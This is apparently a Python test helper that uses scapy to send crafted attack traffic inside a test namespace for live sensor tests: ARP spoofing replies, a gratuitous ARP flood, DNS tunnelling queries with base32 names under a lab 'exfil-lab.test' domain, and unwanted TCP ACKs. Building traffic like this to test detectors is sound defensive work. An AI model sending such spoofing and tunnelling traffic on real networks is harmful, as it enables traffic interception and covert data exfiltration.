"""Send crafted attack traffic with scapy from inside a test namespace (run by the live sensor tests).

Usage: python netns_sender.py IFACE OWN_IP DNS_SERVER_IP SPOOFED_IP

Sends, on IFACE: ARP replies moving SPOOFED_IP from one MAC to another (spoofing), a gratuitous ARP
flood, DNS tunnelling queries (long base32 names) to DNS_SERVER_IP, and TCP ACK segments that no
detector wants (the kernel filter must drop them). Prints one JSON line with what was sent.
Every argument is validated; nothing is passed to a shell.
"""

from __future__ import annotations

import base64
import ipaddress
import json
import re
import sys

from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.l2 import ARP, Ether
from scapy.sendrecv import sendp

REAL_MAC = "02:00:00:00:00:01"
EVIL_MAC = "02:00:00:00:0b:ad"
FLOOD = 25
TUNNEL_QUERIES = 6
UNWANTED = 200


def main(argv: list[str]) -> int:
    if len(argv) != 4 or not re.fullmatch(r"[A-Za-z0-9_.@-]{1,15}", argv[0]):
        print(__doc__, file=sys.stderr)
        return 2
    iface = argv[0]
    own, server, spoofed = (str(ipaddress.IPv4Address(a)) for a in argv[1:])
    bcast = "ff:ff:ff:ff:ff:ff"
    arp = [
        Ether(src=REAL_MAC, dst=bcast) / ARP(op=2, hwsrc=REAL_MAC, psrc=spoofed, hwdst=bcast, pdst=own),
        Ether(src=EVIL_MAC, dst=bcast) / ARP(op=2, hwsrc=EVIL_MAC, psrc=spoofed, hwdst=bcast, pdst=own),
    ]
    flood = [
        Ether(src=EVIL_MAC, dst=bcast)
        / ARP(op=1, hwsrc=EVIL_MAC, psrc=spoofed, hwdst="00:00:00:00:00:00", pdst=spoofed)
        for _ in range(FLOOD)
    ]
    dns = []
    for i in range(TUNNEL_QUERIES):
        chunk = base64.b32encode(bytes((i * 37 + j * 11) % 251 for j in range(90))).decode().rstrip("=").lower()
        name = f"{chunk[:60]}.{chunk[60:120]}.{chunk[120:]}.tun.exfil-lab.test"
        dns.append(
            Ether(src=EVIL_MAC)
            / IP(src=own, dst=server)
            / UDP(sport=40000 + i, dport=53)
            / DNS(rd=1, qd=DNSQR(qname=name))
        )
    unwanted = [
        Ether(src=EVIL_MAC) / IP(src=own, dst=server) / TCP(sport=45000, dport=443, flags="A", seq=i)
        for i in range(UNWANTED)
    ]
    frames = arp + flood + dns + unwanted
    sendp(frames, iface=iface, verbose=False)
    print(json.dumps({"arp": len(arp), "flood": len(flood), "dns": len(dns), "unwanted": len(unwanted)}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
